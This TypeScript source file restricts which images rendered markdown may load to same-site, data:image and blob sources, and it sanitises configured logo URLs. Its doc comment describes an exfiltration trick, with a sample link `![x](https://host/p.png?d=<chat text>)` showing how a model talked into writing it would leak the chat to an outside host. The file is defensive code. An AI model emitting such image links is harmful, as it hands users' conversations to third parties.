import { safeUrl } from './safe-url';

/**
 * Whether an image in rendered markdown may load: only from this site (uploads under
 * `/api/…`) or inline (`data:image/…`, `blob:`). An image elsewhere is fetched the moment
 * it is shown, so a model talked into writing `![x](https://host/p.png?d=<chat text>)`
 * would hand the conversation to that host without a click.
 */
export function isOwnImage(src: string, pageOrigin: string): boolean {
  if (/^data:image\//i.test(src)) return true;
  try {
    // Relative addresses resolve to this site; `blob:` URLs carry the origin that made them.
    return new URL(src, pageOrigin).origin === pageOrigin;
  } catch {
    return false;
  }
}

/**
 * A configured image (site logo, favicon) as the pages can show it: a safe address on this
 * site, or '' (the built-in one is shown instead), since the pages load no image from elsewhere.
 */
export function ownImageUrl(value: string | null | undefined, pageOrigin = globalThis.location?.origin): string {
  const url = safeUrl(value);
  return url && pageOrigin && isOwnImage(url, pageOrigin) ? url : '';
}
